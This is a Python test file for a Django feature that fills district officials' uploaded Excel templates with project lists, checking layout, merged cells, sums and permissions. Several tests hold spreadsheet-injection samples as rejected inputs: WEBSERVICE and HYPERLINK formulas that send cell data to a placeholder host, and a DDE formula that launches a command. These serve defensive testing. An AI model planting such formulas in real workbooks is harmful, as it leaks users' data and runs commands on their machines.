"""A district's own workbook: brought in, filled in with the projects of a list, its looks and sums kept."""

from datetime import date
from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Border, Font, Side
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.formula import ArrayFormula

from yinli.base.accounts.permissions import NotAllowed
from yinli.core.sheets.layout import LayoutWrong, check_layout, fill
from yinli.desk.layouts import actions, queries
from yinli.desk.layouts.example import example
from yinli.desk.layouts.models import Layout
from yinli.desk.pipeline.actions import open_lead

TODAY = date(2026, 9, 1)


@pytest.fixture(autouse=True)
def _chinese():
    with translation.override("zh-hans"):
        yield


def saved(book: Workbook) -> bytes:
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def dispatch_table() -> bytes:
    """A table as offices draw it: a merged title, a heading, one row of words, a sum, a signature below."""
    book = Workbook()
    sheet = book.active
    sheet.title = "调度表"
    sheet.merge_cells("A1:E1")
    sheet["A1"] = "{{填报单位}}项目调度表（{{日期}}，共{{项目数}}个）"
    for at, title in enumerate(("序号", "项目", "总投资（亿元）", "下一步", "备注"), 1):
        sheet.cell(2, at, title).font = Font(bold=True)
    for at, word in enumerate(
        ("{{序号}}", "{{项目名称}}", "{{计划总投资（亿元）}}", "{{招商专员}}：{{下一步}}", "=C3*10"), 1
    ):
        sheet.cell(3, at, word).border = Border(bottom=Side("thin"))
    sheet.row_dimensions[3].height = 42
    sheet["B4"], sheet["C4"] = "合计", "=SUM(C3:C3)"
    sheet.merge_cells("A6:B6")
    sheet["A6"] = "填报人：{{填报人}}"
    other = book.create_sheet("汇总")
    other["A1"] = "=调度表!C4/2"
    return saved(book)


def rows(*sums):
    return [
        {
            "index": at,
            "name": f"项目{at}",
            "planned_investment": yuan,
            "officer": "林晓",
            "next_step": "=约见",
        }
        for at, yuan in enumerate(sums, 1)
    ]


def filled(data, *sums):
    once = {"unit": "北部板块", "today": TODAY, "count": len(sums), "person": "林晓"}
    return load_workbook(BytesIO(fill(data, rows(*sums), once)))


def test_the_row_of_words_is_repeated_and_all_else_keeps_its_place_and_looks():
    sheet = filled(dispatch_table(), 520_000_000, 100_000_000, None)["调度表"]
    assert sheet["A1"].value == "北部板块项目调度表（2026-09-01，共3个）"
    assert [sheet.cell(line, 3).value for line in (3, 4, 5)] == [5.2, 1, None]
    assert [sheet.cell(line, 2).value for line in (3, 4, 5)] == ["项目1", "项目2", "项目3"]
    assert sheet["D4"].value == "林晓：=约见" and sheet["E5"].value == "=C5*10"
    assert sheet["C6"].value == "=SUM(C3:C5)" and sheet["B6"].value == "合计"
    assert sheet["A8"].value == "填报人：林晓"
    assert {str(one) for one in sheet.merged_cells.ranges} == {"A1:E1", "A8:B8"}
    assert sheet["B5"].border.bottom.style == "thin" and sheet.row_dimensions[5].height == 42


def test_a_formula_of_another_sheet_follows_the_sum():
    assert filled(dispatch_table(), 1, 2, 3)["汇总"]["A1"].value == "=调度表!C6/2"


def test_no_project_leaves_one_empty_row():
    sheet = filled(dispatch_table())["调度表"]
    assert (sheet["B3"].value, sheet["B4"].value, sheet["C4"].value) == (None, "合计", "=SUM(C3:C3)")


def test_what_somebody_wrote_never_becomes_a_formula():
    book = Workbook()
    book.active["A1"] = "{{下一步}}"
    out = fill(saved(book), [{"next_step": '=HYPERLINK("x")'}], {})
    cell = load_workbook(BytesIO(out)).active["A1"]
    assert (cell.value, cell.data_type) == ('=HYPERLINK("x")', "s")


def test_several_rows_for_a_project_are_repeated_together_with_their_merged_cells():
    book = Workbook()
    sheet = book.active
    sheet["A1"], sheet["B1"], sheet["B2"] = "{{项目名称}}", "{{招商专员}}", "{{序号}}"
    sheet.merge_cells("A1:A2")
    out = load_workbook(BytesIO(fill(saved(book), rows(1, 2, 3), {}))).active
    assert {str(one) for one in out.merged_cells.ranges} == {"A1:A2", "A3:A4", "A5:A6"}
    assert [out.cell(line, 2).value for line in range(1, 7)] == ["林晓", 1, "林晓", 2, "林晓", 3]


@pytest.mark.parametrize(
    ("words", "code"),
    [({"A1": "没有占位"}, "no_words"), ({"A1": "{{项目全称}}"}, "unknown"), ({"A1": "{{项目名称}}", "A40": "{{序号}}"}, "apart")],
)  # fmt: skip
def test_a_workbook_that_cannot_be_filled_in_says_where(words, code):
    book = Workbook()
    for place, text in words.items():
        book.active[place] = text
    with pytest.raises(LayoutWrong) as refused:
        check_layout(saved(book))
    assert refused.value.code == code


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("http://x/?"&B3)',
        '=HYPERLINK("http://x/"&B3)',
        "=cmd|' /C calc'!A0",
        "=[other.xlsx]Sheet1!A1",
    ],
)
def test_a_layout_carries_nothing_to_the_outside(formula):
    book = Workbook()
    book.active["A1"], book.active["B1"] = "{{项目名称}}", formula
    with pytest.raises(LayoutWrong) as refused:
        check_layout(saved(book))
    assert refused.value.code == "reaches_out"


def test_neither_names_nor_formulas_over_many_cells_carry_anything_out():
    named, spread = Workbook(), Workbook()
    named.active["A1"] = spread.active["A1"] = "{{项目名称}}"
    named.defined_names["out"] = DefinedName("out", attr_text='WEBSERVICE("http://x/")')
    spread.active["B1"] = ArrayFormula("B1:B2", '=WEBSERVICE("http://x/")')
    for book in (named, spread):
        with pytest.raises(LayoutWrong) as refused:
            check_layout(saved(book))
        assert refused.value.code == "reaches_out"


def test_cells_merged_over_a_whole_sheet_are_refused_before_they_are_held(monkeypatch):
    monkeypatch.setattr("yinli.core.sheets.layout.MOST_MERGED", 5)
    with pytest.raises(LayoutWrong) as refused:
        check_layout(dispatch_table())
    assert refused.value.code == "too_large"


def test_a_layout_too_wide_for_so_many_projects_is_refused(client, cast, monkeypatch):
    monkeypatch.setattr("yinli.core.sheets.layout.MOST_CELLS", 9)
    open_lead("青禾封测", "青禾有限公司", by=cast.north_officer, today=TODAY)
    open_lead("远望新材", "远望有限公司", by=cast.north_officer, today=TODAY)
    layout = actions.add_layout("周报", dispatch_table(), "周报.xlsx", by=cast.north_officer)
    client.force_login(cast.north_officer)
    page = client.get(f"/layouts/{layout.number}/filled.xlsx", follow=True)
    assert "过宽" in page.content.decode()


def test_what_is_no_workbook_is_refused(cast):
    for data in (b"a,b\n1,2", b"PK\x03\x04 broken"):
        with pytest.raises((LayoutWrong, ValueError)):
            check_layout(data)
    with pytest.raises(LayoutWrong):
        actions.add_layout("周报", "项目,企业\n{{项目名称}},x".encode(), "周报.csv", by=cast.north_officer)
    assert not Layout.objects.exists()


def test_from_the_upload_to_the_filled_file(client, cast):
    lead = open_lead("青禾封测", "青禾有限公司", by=cast.north_officer, today=TODAY, next_step="送样")
    open_lead("远望新材", "远望有限公司", by=cast.north_officer, today=TODAY)
    client.force_login(cast.north_officer)
    assert 'href="/layouts/?grade=C"' in client.get("/projects/?grade=C").content.decode()
    wrong = client.post(
        "/layouts/", {"name": "周报", "file": SimpleUploadedFile("a.xlsx", saved(Workbook()))}
    )
    assert wrong.status_code == 422
    sent = {"name": "周报", "file": SimpleUploadedFile("周报.xlsx", dispatch_table())}
    assert client.post("/layouts/", sent).status_code == 302
    layout = Layout.objects.get()
    file = client.get(f"/layouts/{layout.number}/filled.xlsx?q={lead.number}")
    sheet = load_workbook(BytesIO(file.content))["调度表"]
    assert (
        sheet["B3"].value == "青禾封测" and sheet["D3"].value == "林晓：送样" and sheet["B4"].value == "合计"
    )
    client.force_login(cast.south_officer)
    theirs = load_workbook(BytesIO(client.get(f"/layouts/{layout.number}/filled.xlsx").content))["调度表"]
    assert theirs["B3"].value is None


def test_the_week_tells_what_was_met_and_reached(cast):
    from yinli.domain.projects.actions import add_fact
    from yinli.domain.visits.actions import add_visit

    lead = open_lead("青禾封测", "青禾有限公司", by=cast.north_officer, today=TODAY)
    visit = {
        "kind": "call",
        "held_on": TODAY,
        "project": lead,
        "enterprise": lead.enterprise,
        "summary": "谈了厂房",
    }
    add_visit(by=cast.north_officer, **visit)
    add_fact(lead, "contacted", date(2026, 8, 30), by=cast.north_officer)
    assert queries.progress(cast.north_officer, [lead.pk], TODAY)[lead.pk].splitlines()[0].startswith("08-30")
    assert "谈了厂房" in queries.progress(cast.north_officer, [lead.pk], TODAY)[lead.pk]
    assert queries.progress(cast.north_officer, [lead.pk], date(2026, 10, 1)) == {}


def test_the_layout_to_begin_with_is_one_itself(cast):
    check_layout(example())
    with translation.override("en"):
        check_layout(example())
    lead = open_lead("青禾封测", "青禾有限公司", by=cast.north_officer, today=TODAY)
    values = queries.values_of(cast.north_officer, [lead], TODAY)
    once = queries.once_of(cast.north_officer, [lead], TODAY)
    sheet = load_workbook(BytesIO(fill(example(), values, once))).active
    assert "青禾封测" in [cell.value for cell in sheet[4]]


def test_only_whoever_brought_it_in_or_the_bureau_puts_it_away(cast):
    layout = actions.add_layout("周报", dispatch_table(), "周报.xlsx", by=cast.north_officer)
    with pytest.raises(NotAllowed):
        actions.put_away(layout, by=cast.south_officer, seen=layout.version)
    actions.put_away(layout, by=cast.bureau_person, seen=layout.version)
    assert not queries.layouts(cast.north_officer).exists()
